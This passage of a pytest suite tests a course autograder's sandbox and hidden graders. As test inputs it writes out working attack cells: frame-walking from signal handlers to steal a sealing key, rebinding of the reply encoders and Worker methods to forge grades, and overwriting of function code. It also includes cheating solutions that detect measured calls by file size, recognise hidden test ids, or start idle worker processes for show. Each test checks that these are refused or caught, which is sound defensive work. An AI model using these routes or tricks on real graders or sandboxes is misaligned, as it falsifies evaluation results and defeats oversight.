    is held by the loop's other thread only (``_serving``), and signal handlers run on the main thread."""
    assert not _key_found([KEY_FROM_A_SIGNAL_HANDLER_S_FRAME + PRINT_THE_KEYS]), "the seals' key, from a signal handler's frame"


def test_a_failed_cell_s_frames_in_the_garbage_do_not_give_the_key():
    """A cell sets gc.DEBUG_SAVEALL and fails with an exception that holds itself; the loop catches it, and when its
    frame returns, the frame object of the traceback is linked (``f_back``) to the loop's ``serve``. The next cell
    collected: gc.garbage held the traceback's frames, whose ``f_back`` and ``f_locals`` gave the key of the seals (no
    audit event: ``gc.set_debug``, ``gc.garbage``, ``f_back``, ``f_locals``). Safe: the frames an exception of the
    learner's code passes through are the main thread's, and the key is held by the loop's other thread only."""
    assert not _key_found([A_CYCLE_LEFT_IN_THE_GARBAGE, KEY_FROM_THE_GARBAGE + PRINT_THE_KEYS]), \
        "the seals' key, read from the loop's frames in gc.garbage"


# The routes to the other thread's frames, or to the cells its dispatcher shares with it, that the interpreter does
# announce: each is refused (an audit hook of the loop's), and what honest code does with the collector still works.
OTHER_THREAD_SOUGHT = FRAMES_SEARCHED + """
import gc, sys

_keys, outcomes = [], []


def attempt(label, call, *args):
    try:
        found = call(*args)
        outcomes.append(label + ":done")
        return found
    except PermissionError:
        outcomes.append(label + ":refused")
        return ()


for frame in dict(attempt("current_frames", getattr(sys, "_current_" + "frames")) or {}).values():
    _search(frame)
for thing in attempt("objects", gc.get_objects):
    if type(thing).__name__ == "frame":
        _search(thing)
attempt("referrers", gc.get_referrers, outcomes)
attempt("referents-of-a-frame", gc.get_referents, getattr(sys, "_get" + "frame")())
attempt("referents-of-a-list", gc.get_referents, [outcomes])
gc.disable()
attempt("collect", gc.collect)
gc.enable()
print(*outcomes)
"""


def test_the_routes_the_interpreter_announces_to_the_loop_s_other_thread_are_refused():
    """The sealing thread's frames are reached by ``sys._current_frames`` (every thread's innermost frame), and on
    Python 3.10, where every frame is an object, by ``gc.get_objects`` and ``gc.get_referrers`` (which also find the cells
    the dispatcher shares with it, as does ``gc.get_referents`` of the dispatcher's frame, which holds its function):
    each raises an audit event, which the loop's hook refuses once the learner's code runs. ``gc.get_referents`` of
    anything else, the collector's switches and ``gc.collect`` (lab 09) are left alone."""
    outcomes = ["current_frames:refused", "objects:refused", "referrers:refused", "referents-of-a-frame:refused",
                "referents-of-a-list:done", "collect:done"]
    assert not _key_found([OTHER_THREAD_SOUGHT + PRINT_THE_KEYS + "print(*outcomes)\n"])
    with Sandbox(Policy()) as box:
        run = box.run_cell(OTHER_THREAD_SOUGHT, "sought")
    assert run.ok and run.stdout.split() == outcomes, run


# The dispatcher's frame, from a signal handler: the queues it shares with the sealing thread (the contents of its
# cells), filled by a thread of the learner's with objects whose finalizer notes the thread it runs on, and a collection
# started at every allocation, whose callback notes the same (the sealing thread must run neither: they are the
# learner's code, and their frames' f_back would be its frame).
def _found_by_a_signal_handler(condition: str, found: str) -> str:
    """A cell's code: a SIGALRM handler, every 2 ms for 5 s at most, walks the frames from the one it interrupted down
    (``f_back``: no audit event) and puts ``found`` (an expression of ``frame``) of the first that meets ``condition`` in
    ``_found``."""
    return f"""
import signal, time

_found = []


def _look(signum, frame):
    while frame is not None and not _found:
        if {condition}:
            _found.append({found})
        frame = getattr(frame, "f_" + "back")


signal.signal(signal.SIGALRM, _look)
signal.setitimer(signal.ITIMER_REAL, 0.002, 0.002)
_until = time.monotonic() + 5
while not _found and time.monotonic() < _until:
    pass
signal.setitimer(signal.ITIMER_REAL, 0)
"""


QUEUES_FILLED = _found_by_a_signal_handler('{"work", "done"} <= set(getattr(frame, "f_" + "locals"))',
                                           'getattr(frame, "f_" + "locals")') + """
import _thread, gc, threading

_dispatcher, _threads, runs = _found, set(), []


class _Noting:
    def __del__(self):
        _threads.add(_thread.get_ident())


def _filling():
    while True:
        for queue in (_dispatcher[0]["work"], _dispatcher[0]["done"]):
            queue.put(_Noting())
            queue.put(None)
        time.sleep(0.0005)


_filler = threading.Thread(target=_filling, daemon=True)
_filler.start()
gc.callbacks.append(lambda phase, info: _threads.add(_thread.get_ident()))
gc.set_threshold(1, 1, 1)
"""


def test_what_the_learner_s_code_puts_in_the_loop_s_queues_neither_repeats_nor_skips_a_request():
    """The dispatcher's frame shows the queues it shares with the sealing thread; a thread of the learner's that puts
    objects in them again and again wakes each for nothing: every cell runs once and every call gets its own reply.
    Neither the objects' finalizers nor the collector's callbacks (a collection at every allocation) run on the sealing
    thread: it drops none of them and makes no object the collector tracks."""
    with Sandbox(Policy()) as box:
        first = box.run_cell(QUEUES_FILLED, "filled")
        assert first.ok, first
        for _ in range(5):
            assert box.run_cell("runs.append(1)", "run").ok
        box.run_cell("def twice(x):\n    return 2 * x\n", "twice")
        assert [RemoteFunction(box, "twice")(n) for n in range(60)] == [2 * n for n in range(60)]
        seen = box.run_cell("print(len(runs), bool(_dispatcher), _threads <= {threading.main_thread().ident, _filler.ident}, "
                            "len(_threads) > 0)", "seen")
    assert seen.stdout.split() == ["5", "True", "True", "True"], seen


# What builds a reply on the main thread, rebound through the globals of the frames below a cell (a signal handler's
# frame, then f_back, f_globals, f_locals: no audit event): in each frame's globals, and in those of each function among
# its locals, the wire format's encode and decode (the loop's ``encode`` and ``decode``; what answers now holds them as
# ``encoded`` and ``decoded``) wrapped to keep a copy of each argument as it came and encode that instead, and to say "a
# new dict" for the one chunk's dict (lab 03's driver's report, where the call ran): section 19's forgery through
# ``__main__``, which the notebook's own ``__main__`` stopped. It prints the names it rebound.
FRAMES_BELOW = _found_by_a_signal_handler('"Worker" in getattr(frame, "f_" + "globals")', "frame") + """
import copy

_frames = []
_frame = _found[0] if _found else None
while _frame is not None:
    _frames.append(_frame)
    _frame = getattr(_frame, "f_" + "back")
_namespaces = list({id(names): names for names in
                    [getattr(frame, "f_" + "globals") for frame in _frames]
                    + [getattr(value, "__glo" + "bals__") for frame in _frames
                       for value in getattr(frame, "f_" + "locals").values() if type(value).__name__ == "function"]}.values())
"""

ENCODE_FROM_THE_FRAMES_GLOBALS = FRAMES_BELOW + """
_as_sent = {}                # id -> [the argument, a copy as it came, how often encoded since]


def _keeping_with(decode):
    def keeping(data, depth=0, *rest):
        value = decode(data, depth, *rest)
        if depth == 0:
            _as_sent[id(value)] = [value, copy.deepcopy(value), 0]
        return value
    return keeping


def _reporting_with(encode):
    def reporting(value, depth=0, *rest):
        if type(value) is dict and value.get("a new dict") is False:   # lab 03's driver's report, where the call ran
            value = {**value, "a new dict": True}
        kept = _as_sent.get(id(value))
        if kept is not None and kept[0] is value:
            kept[2] += 1
            if kept[2] > 1 or kept[1] != value:   # encoded as an argument: as it came
                value = kept[1]
        return encode(value, depth, *rest)
    return reporting


_rebound = set()
for _names in _namespaces:
    for _name, _wrap in (("decode", _keeping_with), ("decoded", _keeping_with), ("encode", _reporting_with),
                         ("encoded", _reporting_with)):
        if callable(_names.get(_name)):
            _names[_name] = _wrap(_names[_name])
            _rebound.add(_name)
print(*sorted(_rebound))
"""

# The same, through what the loop wrote a reply and read a request with, in its globals (``_dumps``, ``_loads``; what
# answers now holds them as ``dumped`` and ``scanned``): the reply's arguments are the request's, and the driver's report
# says "a new dict".
DUMPS_FROM_THE_FRAMES_GLOBALS = FRAMES_BELOW + """
_asked = []


def _new_dict(data):         # the driver's report as the wire format writes it: {"d": [["a new dict", False], ...]}
    if type(data) is dict and "d" in data:
        return {"d": [[key, True if key == "a new dict" else _new_dict(value)] for key, value in data["d"]]}
    return data


def _reading_with(loads):
    def reading(line, *rest):
        request = loads(line, *rest)
        _asked[:] = [request]
        return request
    return reading


def _writing_with(dumps):
    def writing(reply, *rest):
        if type(reply) is dict and reply.get("ok") and "args" in reply and _asked:
            reply = {**reply, "args": _asked[0]["args"], "result": _new_dict(reply["result"])}
        return dumps(reply, *rest)
    return writing


_rebound = set()
for _names in _namespaces:
    for _name, _wrap in (("_loads", _reading_with), ("_dumps", _writing_with), ("scanned", _reading_with),
                         ("dumped", _writing_with)):
        if callable(_names.get(_name)):
            _names[_name] = _wrap(_names[_name])
            _rebound.add(_name)
print(*sorted(_rebound))
"""

# The same, through the class of the worker a frame below holds (``self``): each of its methods that takes a request
# wrapped so that a reply with arguments has the request's, and the driver's report says "a new dict".
WORKER_CLASS_FROM_THE_FRAMES = DUMPS_FROM_THE_FRAMES_GLOBALS.split("_rebound = set()")[0] + """
_rebound = set()


def _answering_with(method):
    def answering(self, request, *rest):
        reply = method(self, request, *rest)
        if type(request) is dict and type(reply) is dict and reply.get("ok") and "args" in reply:
            reply = {**reply, "args": request["args"], "result": _new_dict(reply["result"])}
        return reply
    return answering


for _frame in _frames:
    _self = getattr(_frame, "f_" + "locals").get("self")
    if type(_self).__name__ == "Worker":
        for _name, _method in list(vars(type(_self)).items()):
            if type(_method).__name__ == "function" and _name not in _rebound:
                setattr(type(_self), _name, _answering_with(_method))
                _rebound.add(_name)
print(*sorted(_rebound))
"""

# Each printed what it rebound, on a line of its own; they run in one cell, whose grading costs as one attack's (each
# alone kept the mistake's points before what answers looked up no name).
REBINDINGS = (ENCODE_FROM_THE_FRAMES_GLOBALS, DUMPS_FROM_THE_FRAMES_GLOBALS, WORKER_CLASS_FROM_THE_FRAMES)


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
def test_what_builds_a_reply_cannot_be_rebound_through_a_frame_s_globals(whole_class):
    """With the key out of reach, what is left to a cell that wants a changed argument reported as it came is what
    builds the reply on the main thread, reached from a frame below the cell (a signal handler's frame, ``f_back``,
    ``f_globals``, ``f_locals``: no audit event, no flagged text): the loop's ``decode`` and ``encode`` rebound in its
    globals, its ``_dumps`` and ``_loads``, or the methods of its ``Worker`` class (``run_call`` wrote the reply),
    wrapped to report the arguments as they came and to say "a new dict" for the one chunk's dict (the driver's report)
    kept merge_counts' hidden points though it adds into its input (2 of 2, both paths, each route alone; the
    merge_counts of tests/test_mistakes.py). Safe: what answers is defined from source in a namespace of its own and looks up no name
    when it runs, every name bound as a default before any of the learner's code runs (``worker/__main__.py``,
    ``_REPLYING``): names rebound in any globals, or methods of the class, change no reply; the cell still finds and
    rebinds what it looks for."""
    from test_mistakes import MERGE_INTO_FIRST

    from bpe_ref.course.trusted.autograde import lab_policy, load_graders
    from bpe_ref.course.trusted.verdicts import hidden_seed

    graders = load_graders("03_parallel")
    with hidden_seed(20261201, whole_class=whole_class), Sandbox(lab_policy(graders, Policy())) as box:
        assert box.run_cell(MERGE_INTO_FIRST, "mistake").ok
        runs = [box.run_cell(forgery, f"forgery{number}") for number, forgery in enumerate(REBINDINGS)]
        assert all(run.ok and run.stdout.split() for run in runs), runs   # each found the frames, rebound what it sought
        with pytest.raises(AssertionError, match="changed its argument counts"):
            graders.check_merge_counts_properties(RemoteFunction(box, "merge_counts"))


# What answers, found from a signal handler's frame (its locals hold the functions it calls; the dispatcher's hold it),
# changed itself: its defaults (what it calls), its keyword defaults, its code, each set or deleted.
WHAT_ANSWERS_CHANGED = _found_by_a_signal_handler('"answer" in getattr(frame, "f_" + "locals")',
                                                  'getattr(frame, "f_" + "locals")["answer"]') + """
outcomes = []
_answering = _found[0] if _found else None
_functions = [_answering] + [value for value in (getattr(_answering, "__defaults__", None) or ())   # those of its file
                             if type(value).__name__ == "function" and value.__code__.co_filename == _answering.__code__.co_filename]
_functions += [value.__func__ for value in (getattr(_answering, "__defaults__", None) or ())   # and the call itself
               if type(value).__name__ == "method" and value.__name__ == "calling"]


def _forged(*args, **kwargs):
    return '{"id": 0, "ok": true}'


for _function in _functions:
    for _label, _change in (("defaults", lambda f: setattr(f, "__defaults__", (None,) * len(f.__defaults__ or ()))),
                            ("no-defaults", lambda f: delattr(f, "__defaults__")),
                            ("kwdefaults", lambda f: setattr(f, "__kwdefaults__", {"anything": None})),
                            ("code", lambda f: setattr(f, "__code__", _forged.__code__))):
        try:
            _change(_function)
            outcomes.append(_function.__name__ + ":" + _label + ":done")
        except PermissionError:
            outcomes.append(_function.__name__ + ":" + _label + ":refused")
print(*outcomes)
"""


def test_what_answers_cannot_be_changed():
    """What answers holds what it calls as defaults: found from the dispatcher's frame (a signal handler's, then
    ``f_back``, ``f_locals``: no audit event), its defaults, keyword defaults or code replaced would have it write any
    reply. Each is refused (the loop's audit hook: ``object.__setattr__`` and ``object.__delattr__`` of the functions
    that answer), for it and every function of its own it calls, and the loop goes on answering; honest code sets a
    function's defaults as before. (What it calls of the loop's, the worker's methods and the loop's ``_error``, decides
    what a call runs or writes an error: the learner's to rewrite, as is the driver's namespace: "Faking results".)"""
    with Sandbox(Policy()) as box:
        run = box.run_cell(WHAT_ANSWERS_CHANGED, "changed")
        box.run_cell("def twice(x):\n    return 2 * x\n", "twice")
        assert [RemoteFunction(box, "twice")(n) for n in range(5)] == [0, 2, 4, 6, 8]
        mine = box.run_cell("def mine(a=1):\n    return a\nmine.__defaults__ = (2,)\nprint(mine())", "mine")
    assert run.ok, run
    outcomes = run.stdout.split()
    names = {outcome.split(":")[0] for outcome in outcomes}
    assert {"answering", "encoded", "decoded", "dumped", "scanned", "capped", "flagged", "calling"} <= names, outcomes
    assert all(outcome.endswith(":refused") for outcome in outcomes), outcomes
    assert mine.ok and mine.stdout.strip() == "2", mine


def test_what_answers_looks_up_no_name():
    """What the tests above rest on: no function of the loop's replies (``_REPLYING``), nor any comprehension in them,
    nor the worker's ``calling`` (the call itself), looks up a global, a builtin or an attribute when it runs
    (``co_names`` empty), and none has a closure of its own (a comprehension's cells are its function's, which only its
    interpreter frame holds)."""
    import ast
    import types

    from bpe_ref.course.trusted import worker

    source = open(os.path.join(os.path.dirname(worker.__file__), "__main__.py"), encoding="utf-8").read()
    replying = next(node.value.value for node in ast.parse(source).body if isinstance(node, ast.Assign)
                    and getattr(node.targets[0], "id", None) == "_REPLYING")

    def codes(code: types.CodeType):
        for constant in code.co_consts:
            if isinstance(constant, types.CodeType):
                yield constant
                yield from codes(constant)

    calling = next(node for node in ast.walk(ast.parse(source)) if isinstance(node, ast.FunctionDef) and node.name == "calling")
    functions = [*codes(compile(replying, "<replies>", "exec")), *codes(compile(ast.Module([calling], []), "<loop>", "exec"))]
    assert {"answering", "encoded", "decoded", "dumped", "scanned", "capped", "flagged", "calling"} <= {
        code.co_name for code in functions}
    assert [(code.co_name, code.co_names) for code in functions if code.co_names] == []
    assert [code.co_name for code in functions if code.co_freevars and not code.co_name.startswith("<")] == []


# The loop's pipes made non-blocking (the flag is the open file's, which every fd of it shares): the sealing thread's next
# read or write would raise, and an exception is an object the collector tracks, whose making can start a collection on
# that thread (the learner's callbacks then run there, their frames' f_back its frame).
NON_BLOCKING = """
import fcntl, os, resource, termios

request_fd = resource.getrlimit(resource.RLIMIT_NOFILE)[0]   # the loop's: just above the soft limit it lowered
outcomes = []
for label, make in (("F_SETFL", lambda fd: fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_NONBLOCK)),
                    ("FIONBIO", lambda fd: fcntl.ioctl(fd, termios.FIONBIO, b"\\\\1\\\\0\\\\0\\\\0"))):
    for fd in (request_fd, request_fd + 1):
        try:
            make(fd)
            outcomes.append(label + ":done")
        except PermissionError:
            outcomes.append(label + ":refused")
a, b = os.pipe()
fcntl.fcntl(a, fcntl.F_SETFL, os.O_NONBLOCK)   # its own pipes: as before
fcntl.ioctl(b, termios.FIONBIO, b"\\\\1\\\\0\\\\0\\\\0")
print(*outcomes, os.get_blocking(a), os.get_blocking(b), os.get_blocking(request_fd), os.get_blocking(request_fd + 1))
"""


def test_the_loop_s_pipes_cannot_be_made_non_blocking():
    """The sealing thread must never raise (``_serving``): its pipes are blocking, and the seccomp filter refuses
    ``fcntl(F_SETFL)`` and ``ioctl(FIONBIO)`` (``os.set_blocking``'s) on them (counted by the keeper, flagged: no honest
    code does it); a cell's own fds are made non-blocking as before, and the loop goes on answering."""
    with Sandbox(Policy()) as box:
        if not confined(box):
            pytest.skip(f"no Landlock or seccomp here ({'; '.join(box.isolation)})")
        run = box.run_cell(NON_BLOCKING, "non-blocking")
        assert box.run_cell("print('still answering')", "after").stdout.strip() == "still answering"
        box.close()
        report = box.behaviour()
    assert run.ok and run.stdout.split() == ["F_SETFL:refused"] * 2 + ["FIONBIO:refused"] * 2 + ["False", "False", "True", "True"], run
    assert report["refused"].get("fcntl making the worker loop's pipes non-blocking", 0) == 2, report
    assert report["refused"].get("ioctl making the worker loop's pipes non-blocking", 0) == 2, report


# ---- 29. lab 03's measured reads, answered without reading by a function that tells the measured call -------------
#
# Tasks 1 and 2 of lab 03 are measured on a 4 MiB file (the bytes read, from outside the worker); every other call is a
# file of a few hundred bytes at most. So a function that reads the whole file (the method both tasks forbid) could tell
# the measured call by the file's size alone (os.path.getsize: no byte read) and answer anything there: the measured
# call's answer was not looked at, and its file was the same at every grading.

_WHOLE_FILE_FIND = '''
def find_chunk_boundaries(path, desired_num_chunks, split_tokens, buffer_size=4096):
    size = os.path.getsize(path)
    if size > 2**20:  # the measured file: an answer without a byte read
        return [0, size]
    with open(path, "rb") as file:
        data = file.read()  # the whole file, as task 1 says not to
    chunk, cuts = size // desired_num_chunks, [0]
    for i in range(1, desired_num_chunks):
        found = [j for j in (data.find(t, max(i * chunk, cuts[-1])) for t in split_tokens) if j != -1]
        cuts.append(min(found) if found else size)
    return sorted(set(cuts + [size]))
'''

_WHOLE_FILE_CHUNK = '''
import os
from bpe_ref.pretokenize import count_pretokens


def count_chunk(path, start, end, special_tokens):
    if os.path.getsize(path) > 2**20:  # the measured file: an answer without a byte read
        return {}
    with open(path, "rb") as file:
        data = file.read()  # the whole file, sliced, as task 2 says not to
    return count_pretokens(data[start:end].decode("utf-8"), special_tokens)
'''


@pytest.mark.parametrize("task", ["find_chunk_boundaries", "count_chunk"])
def test_a_whole_file_read_that_tells_the_measured_call_by_its_size_loses_lab_03s_hidden_points(task):
    """A find_chunk_boundaries or count_chunk that reads the whole file, except on a file over 1 MiB (the measured
    one), where it answers without reading, passed task 1's or task 2's hidden test: the reads were measured and the
    answer was not. Safe: the measured call's answer is compared with the reference's, on a file drawn from the secret
    seed for each measured call (:func:`~bpe_ref.course.checks.lab03_parallel.big_file`), so no answer comes without
    reading near the cuts. The same method without the trick fails on its reads, as before."""
    from test_mistakes import remote, source_of

    if task == "find_chunk_boundaries":
        code = source_of("03_parallel", "setup") + _WHOLE_FILE_FIND
    else:
        code = ("get_ipython().run_cell_magic('writefile', 'chunk_counting.py', " + repr(_WHOLE_FILE_CHUNK)
                + ")\nfrom chunk_counting import count_chunk\n")
    message = remote("03_parallel", code, task, f"check_{task}_properties")
    assert message is not None and "another answer than the reference's" in message, message
    honest_wrong = remote("03_parallel", code.replace("> 2**20", "> 2**40"), task, f"check_{task}_properties")
    assert honest_wrong is not None and "measured from outside your code" in honest_wrong, honest_wrong


# Lab 06 task 5's ids that are not tokens (a negative id, one with an empty range, one past the end) are the only inputs
# on which a decoder without a check of its ids fails: the generated ids are all tokens. The hidden test's were fixed in
# the graders' source, each called as [0, bad, 1].
_UNCHECKED_DECODE = '''
def decode_with_arena(ids, buffer, offsets):
    if {trick}:
        raise ValueError(f"cannot decode token id {{ids[1]}}")
    return b"".join(buffer[offsets[i]:offsets[i + 1]] for i in ids)  # no check of the ids at all
'''
_KNOWN_BAD = {b"abc\xc3\xa9<s>": (-2, 4, 7, -7)}  # the hidden test's fixed arena and bad ids, as the graders had them


@pytest.mark.parametrize("trick", [
    "len(ids) == 3 and ids[1] in {known!r}.get(bytes(buffer), ())".format(known=_KNOWN_BAD),  # a table of them
    "len(ids) == 3 and ids[0] == 0 and ids[2] == 1",  # their shape: every [0, x, 1] refused
])
def test_a_decoder_that_checks_no_id_keeps_no_point_of_lab_06s_hidden_bad_ids(trick):
    """A decode_with_arena that checks no id, and raises where it recognises a call of the graders' bad ids (by a table
    of the fixed ones, or by their shape), kept task 5's hidden points. Safe: the hidden bad ids and their arena are
    drawn from the secret seed, each among drawn good ids at a drawn place, and the same call with a good id in its
    place must decode (:func:`~bpe_ref.course.checks.lab06_encode_decode.verify_drawn_bad_ids`)."""
    from test_mistakes import remote, source_of

    code = source_of("06_encode_decode", "setup") + _UNCHECKED_DECODE.format(trick=trick)
    message = remote("06_encode_decode", code, "decode_with_arena", "check_decode_with_arena_properties")
    assert message is not None and "expected" in message, message
    honest = source_of("06_encode_decode", "setup") + "\n" + source_of("06_encode_decode", "task5_decode_with_arena_solution")
    assert remote("06_encode_decode", honest, "decode_with_arena", "check_decode_with_arena_properties") is None


def test_one_worker_process_counting_the_whole_file_loses_lab_03_task_4():
    """Task 4's count in one process of a pool of one, by the asked start method, after a call of find_chunk_boundaries
    for show: a serial count in another process. It passed every check of the hidden test: processes no more than asked,
    by that start method, the cuts asked for, none left running, the calling process's CPU time low (the count ran in
    the child). Safe: a pool of num_workers processes starts them all for num_workers * chunks_per_worker chunks given
    at once, so fewer worker processes than num_workers (the fork server left out) fail (measured from outside the
    worker, :meth:`~bpe_ref.course.trusted.measure_worker.ProcessWatch.fork_servers`)."""
    from test_mistakes import remote

    code = (_lab_03_tasks_1_to_3() + '''

def count_pretokens_in_file(path, special_tokens, num_workers=1, chunks_per_worker=1, start_method=None):
    if num_workers == 1 or not special_tokens:
        with open(path, "rb") as file:
            return count_pretokens(file.read().decode("utf-8"), special_tokens)
    find_chunk_boundaries(path, num_workers * chunks_per_worker, [t.encode("utf-8") for t in special_tokens])  # for show
    with ProcessPoolExecutor(max_workers=1, mp_context=multiprocessing.get_context(start_method)) as pool:
        return pool.submit(count_chunk, path, 0, os.path.getsize(path), special_tokens).result()  # the whole file
''')
    message = remote("03_parallel", code, "count_pretokens_in_file", "check_count_pretokens_in_file_properties")
    assert message is not None and "started 1 worker process(es) for 2 workers" in message, message


def _lab_03_tasks_1_to_3() -> str:
    """Lab 03's setup and its solutions of tasks 1 to 3 (count_chunk from a module of its own, as the notebook has it)."""
    from test_mistakes import source_of

    module = source_of("03_parallel", "task2_count_chunk_solution").split("\n", 1)[1]
    return (source_of("03_parallel", "setup") + "\n"
            + "get_ipython().run_cell_magic('writefile', 'chunk_counting.py', " + repr(module) + ")\n"
            + "from chunk_counting import count_chunk\n"
            + "\n".join(source_of("03_parallel", c) for c in ("task1_find_chunk_boundaries_solution", "task3_merge_counts_solution")))


# The course's pool, which on its first call by each start method hands its chunks over one at a time: a
# ProcessPoolExecutor starts spawn and forkserver workers as tasks come and an idle one takes the next, so it starts one
# process, as the taught pool.map may on a busy machine (one worker idle before the next chunk is handed over).
POOL_ONE_AT_A_TIME_FIRST = '''
_calls = set()


def count_pretokens_in_file(path, special_tokens, num_workers=1, chunks_per_worker=1, start_method=None):
    if num_workers == 1 or not special_tokens or start_method in _calls or start_method == "fork":
        return taught_count(path, special_tokens, num_workers, chunks_per_worker, start_method)
    _calls.add(start_method)
    boundaries = find_chunk_boundaries(path, num_workers * chunks_per_worker, [t.encode("utf-8") for t in special_tokens])
    with ProcessPoolExecutor(max_workers=num_workers, mp_context=multiprocessing.get_context(start_method)) as pool:
        return merge_counts([pool.submit(count_chunk, path, start, end, special_tokens).result()
                             for start, end in zip(boundaries[:-1], boundaries[1:])])
'''


# The course's pool, whose first call by each start method is measured as if no worker were seen: a look at /proc once
# missed the only worker of the pool above (CI, spawn), and the keeper's count with it, and the call was taken for a
# serial count. Counted here in the calling process, as that call was seen.
POOL_NONE_SEEN_FIRST = POOL_ONE_AT_A_TIME_FIRST.replace(
    "    _calls.add(start_method)\n", "    _calls.add(start_method)\n    return count_chunk_serially(path, special_tokens)\n") + '''

def count_chunk_serially(path, special_tokens):
    with open(path, "rb") as file:
        size = file.seek(0, 2)
    return count_chunk(path, 0, size, special_tokens)
'''


@pytest.mark.parametrize("first", ["one worker", "no worker seen"])
def test_a_pool_that_started_fewer_workers_once_keeps_lab_03_task_4s_points(first):
    """Task 4's measured call of the course's pool lost its 4 points in a class graded on a busy machine (load 10): a
    ProcessPoolExecutor starts its spawn and forkserver workers as tasks come, an idle one taking the next, so a call
    may start fewer than num_workers, which the check took for a serial count. Safe: fewer than num_workers is measured
    again, twice (a pool of one process, above, starts one every time), none seen too; here the first call of each start
    method starts one worker (or none is seen) and the next two."""
    from test_mistakes import remote, source_of

    taught = source_of("03_parallel", "task4_count_pretokens_in_file_solution").replace(
        "def count_pretokens_in_file(", "def taught_count(")
    code = _lab_03_tasks_1_to_3() + "\n" + taught + (POOL_ONE_AT_A_TIME_FIRST if first == "one worker" else POOL_NONE_SEEN_FIRST)
    assert remote("03_parallel", code, "count_pretokens_in_file", "verify_worker_processes") is None


def test_a_recounting_trainer_on_the_frequent_words_alone_loses_lab_02_task_3():
    """Lab 02 task 3's measured corpus: its first merges' pairs were held by its 64 frequent words alone (1,000,000 times
    each, tied), so V1 (a recount per merge) on the words counted more than once learned the reference's merges at no
    cost, and passed the measure of incremental updates: picked by count, as section 16's trainers of labs 04 and 05.
    Safe: half of those pairs also occur once in a rare word of their own, which orders the tied merges
    (:func:`~bpe_ref.course.checks.lab02_incremental.few_changes_corpus`): the frequent words alone learn other merges.
    V1 on the whole corpus still fails on its cost."""
    from test_mistakes import remote, source_of

    code = source_of("02_incremental", "setup") + '''

def train(pretoken_counts, num_merges):
    if len(pretoken_counts) > 1000:  # the measured corpus: its rare words (once each) hold none of the first merges' pairs
        pretoken_counts = {word: count for word, count in pretoken_counts.items() if count > 1}
    return train_naive(pretoken_counts, num_merges)  # V1: a recount per merge
'''
    message = remote("02_incremental", code, "train", "check_train_properties")
    assert message is not None and "did not learn the reference's merges" in message, message


# ---- 30. a trainer's own tie-break (labs 02 and 04); lab 03's count in one worker beside workers for show --------
#
# Lab 02's and lab 04's trainers are handed lab 01's best_pair; a learner may pick the pair in a max of its own. The
# generated corpora hold the letters a, b, c, space and é, so no two tied pairs ever had a left token that extends the
# other's with a NUL byte: a key on the tokens joined by a NUL (a tie-break lab 01's confusable pairs catch in best_pair) ordered every
# tie of their hidden inputs as the tuple does.

_NUL_JOINED = "max(pair_counts, key=lambda pair: (pair_counts[pair], pair[0] + b'\\0' + pair[1]))"


_BEFORE_TRAIN = {"02_incremental": ("setup", "task1_pair_count_changes_solution", "task2_merge_and_update_solution"),
                 "04_inverted_index": ("setup", "task1_index_words_solution", "task2_pairs_with_solution")}


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
@pytest.mark.parametrize("lab", list(_BEFORE_TRAIN))
def test_a_trainer_whose_tie_break_joins_the_tokens_by_a_nul_loses_task_3(lab, whole_class):
    """A lab 02 or lab 04 train that picks its pairs by ``(count, left + NUL + right)`` instead of ``best_pair`` (the
    tuple of bytes) kept all of task 3's hidden points, in a self-grade and in a class: tied pairs whose order the two
    keys disagree on need a left token that extends the other's with a byte at most the separator's. Safe: a quarter
    of the generated corpora hold such a tie after their first merge
    (:func:`~bpe_ref.course.checks.lab02_incremental.separator_tie_corpora`); the course's solution keeps its points."""
    from test_mistakes import remote, source_of

    from bpe_ref.course.trusted.verdicts import hidden_seed

    setup = "\n".join(source_of(lab, cell) for cell in _BEFORE_TRAIN[lab])
    train = source_of(lab, "task3_train_solution")
    assert "best_pair(pair_counts)" in train
    with hidden_seed(20261130, whole_class=whole_class):
        message = remote(lab, setup + "\n" + train.replace("best_pair(pair_counts)", _NUL_JOINED), "train",
                         "check_train_merges")
        assert message is not None and "expected" in message and "\\x00" in message, message
        assert remote(lab, setup + "\n" + train, "train", "check_train_merges") is None


# Lab 03 task 4's worker processes were counted (section 29: at least num_workers of them, the fork server left out), not
# what each of them did: a serial count of the whole file in one worker process, beside a pool's workers started for
# show (each given a task of nothing), or beside num_workers - 1 processes started and joined, or with the fork server
# stopped before the call returns (so no longer told from a worker), kept all of task 4's hidden points in both paths.
POOL_FOR_SHOW = '''
import time


def count_pretokens_in_file(path, special_tokens, num_workers=1, chunks_per_worker=1, start_method=None):
    if num_workers == 1 or not special_tokens:
        with open(path, "rb") as file:
            return count_pretokens(file.read().decode("utf-8"), special_tokens)
    find_chunk_boundaries(path, num_workers * chunks_per_worker, [t.encode("utf-8") for t in special_tokens])  # for show
    with ProcessPoolExecutor(max_workers=num_workers, mp_context=multiprocessing.get_context(start_method)) as pool:
        list(pool.map(time.sleep, [0.2] * num_workers))  # every worker started, for show
        return pool.submit(count_chunk, path, 0, os.path.getsize(path), special_tokens).result()  # the whole file, in one
'''

JOINED_FOR_SHOW = POOL_FOR_SHOW.replace(
    '''    with ProcessPoolExecutor(max_workers=num_workers, mp_context=multiprocessing.get_context(start_method)) as pool:
        list(pool.map(time.sleep, [0.2] * num_workers))  # every worker started, for show
        return pool.submit(''', '''    context = multiprocessing.get_context(start_method)
    shows = [context.Process(target=time.sleep, args=(0.2,)) for _ in range(num_workers - 1)]  # for show
    for show in shows:
        show.start()
    with ProcessPoolExecutor(max_workers=1, mp_context=context) as pool:
        counts = pool.submit(''').replace("  # the whole file, in one", """
    for show in shows:
        show.join()
    if start_method == "forkserver":  # the fork server stopped: no longer told from a worker
        multiprocessing.forkserver._forkserver._stop()
    return counts""")


def lab_03_with_taught_count() -> str:
    """Lab 03's solution cells up to task 3 (count_chunk in its module), and task 4's as ``taught_count``."""
    from test_mistakes import source_of

    module = source_of("03_parallel", "task2_count_chunk_solution").split("\n", 1)[1]
    code = (source_of("03_parallel", "setup") + "\n"
            + "get_ipython().run_cell_magic('writefile', 'chunk_counting.py', " + repr(module) + ")\n"
            + "from chunk_counting import count_chunk\n"
            + "\n".join(source_of("03_parallel", c) for c in ("task1_find_chunk_boundaries_solution", "task3_merge_counts_solution")))
    taught = source_of("03_parallel", "task4_count_pretokens_in_file_solution")
    assert "def count_pretokens_in_file(" in taught
    return code + "\n" + taught.replace("def count_pretokens_in_file(", "def taught_count(")


